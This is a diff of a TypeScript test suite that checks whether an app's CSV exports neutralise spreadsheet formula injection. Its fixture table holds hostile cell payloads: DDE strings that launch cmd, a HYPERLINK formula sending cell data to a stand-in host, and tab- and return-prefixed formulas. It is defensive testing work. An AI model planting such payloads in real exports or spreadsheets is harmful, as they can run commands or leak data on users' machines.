@@ -23,10 +23,10 @@ const HOSTILE: [table: string, column: string, prefix: string][] = [
   ['collar', 'code', '=HYPERLINK("http://x.example/?"&A1,"'],
   ['collar', 'notes', '=1+2 '],
   ['collar', 'status_reason', '@SUM(1+1) '],
-  ['plot', 'code', '+cmd|\' /C calc\'!A0 '],
-  ['block', 'code', '-2+3+cmd|\' /C calc\'!A0 '],
+  ['plot', 'code', "+cmd|' /C calc'!A0 "],
+  ['block', 'code', "-2+3+cmd|' /C calc'!A0 "],
   ['block', 'name', '=1+2 '],
-  ['treatment', 'code', '@SUM(1+1)*cmd|\' /C calc\'!A0 '],
+  ['treatment', 'code', "@SUM(1+1)*cmd|' /C calc'!A0 "],
   ['treatment', 'name', '\t=1+2 '],
   ['route', 'name', '\t=1+2 '],
   ['campaign', 'name', '\r=1+2 '],
@@ -44,11 +44,15 @@ describe('CSV cells never start a formula', () => {
       await t.ds.query(`UPDATE ${table} SET ${column} = $2 || coalesce(${column}, 'x') WHERE site_id = $1`, [DEMO_SITE_ID, prefix]);
     }
     // Notes and reasons are often empty in the seed: give every row one so each column is exercised.
-    await t.ds.query(`UPDATE visit SET skipped = true WHERE id = (SELECT id FROM visit WHERE site_id = $1 AND NOT skipped ORDER BY id LIMIT 1)`, [DEMO_SITE_ID]);
+    await t.ds.query(
+      `UPDATE visit SET skipped = true WHERE id = (SELECT id FROM visit WHERE site_id = $1 AND NOT skipped ORDER BY id LIMIT 1)`,
+      [DEMO_SITE_ID],
+    );
     // An UPDATE answers [rows, count] through TypeORM.
     const [[negative]] = await t.ds.query(
       `UPDATE closure SET flux_umol_m2_s = -0.31 WHERE id = (SELECT id FROM closure WHERE site_id = $1 AND flux_umol_m2_s IS NOT NULL AND review_state <> 'rejected' ORDER BY id LIMIT 1) RETURNING id`,
-      [DEMO_SITE_ID]);
+      [DEMO_SITE_ID],
+    );
     negativeClosureId = negative.id;
   });
   afterAll(() => t.close());
@@ -56,7 +60,11 @@ describe('CSV cells never start a formula', () => {
   it('when the data package is built from hostile text, then no cell of any of its CSVs is a live formula and numbers stay numbers', async () => {
     const [lab] = await t.ds.query(`SELECT id FROM app_user WHERE email = $1`, [demoEmail('lab')]);
     const jobId = '7d0c0f4e-4c1a-4b7e-9b7e-0c5f7a1d2e30';
-    const out = await runResultsExport(t.ds, { siteId: DEMO_SITE_ID, selection: 'not-rejected', model: 'q10', userId: lab.id, license: 'CC0-1.0' }, { jobId });
+    const out = await runResultsExport(
+      t.ds,
+      { siteId: DEMO_SITE_ID, selection: 'not-rejected', model: 'q10', userId: lab.id, license: 'CC0-1.0' },
+      { jobId },
+    );
     const [{ bytes }] = await t.ds.query(`SELECT bytes FROM result_export WHERE id = $1`, [out.exportId]);
     const files = await readZip(bytes as Buffer);
     const live: string[] = [];
@@ -66,20 +74,28 @@ describe('CSV cells never start a formula', () => {
       const parsed = Papa.parse<string[]>(text, { skipEmptyLines: true });
       const [header, ...rows] = parsed.data;
       expect(header).toEqual(table.fields.map((f) => f.name));
-      rows.forEach((row, i) => row.forEach((cell, j) => {
-        if (LOOKS_LIVE(cell)) live.push(`${table.name} row ${i + 1} ${header[j]}: ${JSON.stringify(cell)}`);
-        if (cell.includes('cmd|') || cell.includes('HYPERLINK') || cell.includes('=1+2')) hostileSeen++;
-        const type = table.fields[j].type;
-        if ((type === 'number' || type === 'integer') && cell !== '') {
-          if (!NUMBER.test(cell)) live.push(`${table.name} row ${i + 1} ${header[j]}: ${JSON.stringify(cell)} is not a number`);
-        }
-      }));
+      rows.forEach((row, i) =>
+        row.forEach((cell, j) => {
+          if (LOOKS_LIVE(cell)) live.push(`${table.name} row ${i + 1} ${header[j]}: ${JSON.stringify(cell)}`);
+          if (cell.includes('cmd|') || cell.includes('HYPERLINK') || cell.includes('=1+2')) hostileSeen++;
+          const type = table.fields[j].type;
+          if ((type === 'number' || type === 'integer') && cell !== '') {
+            if (!NUMBER.test(cell)) live.push(`${table.name} row ${i + 1} ${header[j]}: ${JSON.stringify(cell)} is not a number`);
+          }
+        }),
+      );
     }
     expect(live).toEqual([]);
     expect(hostileSeen).toBeGreaterThan(100); // the hostile text did reach the files, as text
-    const closures = Papa.parse<Record<string, string>>(files.get(tablePath('closures'))!.toString('utf8'), { header: true, skipEmptyLines: true }).data;
+    const closures = Papa.parse<Record<string, string>>(files.get(tablePath('closures'))!.toString('utf8'), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
     expect(closures.find((c) => c['closure_id'] === negativeClosureId)?.['flux_umol_m2_s']).toBe('-0.31');
-    const collars = Papa.parse<Record<string, string>>(files.get(tablePath('collars'))!.toString('utf8'), { header: true, skipEmptyLines: true }).data;
+    const collars = Papa.parse<Record<string, string>>(files.get(tablePath('collars'))!.toString('utf8'), {
+      header: true,
+      skipEmptyLines: true,
+    }).data;
     expect(collars[0]['collar_code']).toMatch(/^'=HYPERLINK\("http:\/\/x\.example\/\?"&A1,"/);
   });
 
@@ -90,21 +106,26 @@ describe('CSV cells never start a formula', () => {
       expect(res.status).toBe(200);
       const [header, ...rows] = Papa.parse<string[]>(res.text, { skipEmptyLines: true }).data;
       expect(rows.length).toBeGreaterThan(40);
-      const live = rows.flatMap((row, i) => row.flatMap((cell, j) => (LOOKS_LIVE(cell) ? [`row ${i + 1} ${header[j]}: ${JSON.stringify(cell)}`] : [])));
+      const live = rows.flatMap((row, i) =>
+        row.flatMap((cell, j) => (LOOKS_LIVE(cell) ? [`row ${i + 1} ${header[j]}: ${JSON.stringify(cell)}`] : [])),
+      );
       expect(live).toEqual([]);
-      expect(rows.some((r) => r[0].startsWith('\'=HYPERLINK('))).toBe(true);
-      expect(rows.some((r) => r[1].startsWith('\'\t=1+2'))).toBe(true);
+      expect(rows.some((r) => r[0].startsWith("'=HYPERLINK("))).toBe(true);
+      expect(rows.some((r) => r[1].startsWith("'\t=1+2"))).toBe(true);
     }
   });
 
   it('when the server sources are read, then CSV text is written only by the shared writer', () => {
     const root = join(__dirname, '..', '..');
-    const files = (dir: string): string[] => readdirSync(dir).flatMap((n) => {
-      const p = join(dir, n);
-      return statSync(p).isDirectory() ? files(p) : /\.ts$/.test(n) && !/\.spec\.ts$/.test(n) ? [p] : [];
-    });
-    const writers = files(join(root, 'server')).filter((f) => /\bunparse\(|text\/csv/.test(readFileSync(f, 'utf8')))
-      .map((f) => relative(root, f)).filter((f) => !f.startsWith('server/seed/')); // the seed only names a demo file's media type
+    const files = (dir: string): string[] =>
+      readdirSync(dir).flatMap((n) => {
+        const p = join(dir, n);
+        return statSync(p).isDirectory() ? files(p) : /\.ts$/.test(n) && !/\.spec\.ts$/.test(n) ? [p] : [];
+      });
+    const writers = files(join(root, 'server'))
+      .filter((f) => /\bunparse\(|text\/csv/.test(readFileSync(f, 'utf8')))
+      .map((f) => relative(root, f))
+      .filter((f) => !f.startsWith('server/seed/')); // the seed only names a demo file's media type
     // The progress route sends progressCsv(), which is built with csvLine(); no file serialises CSV its own way.
     expect(writers.sort()).toEqual(['server/board/board-routes.ts', 'server/results/data-package.ts']);
     expect(readFileSync(join(root, 'server/board/progress-csv.ts'), 'utf8')).toContain("from '../../shared/csv/csv-cell'");
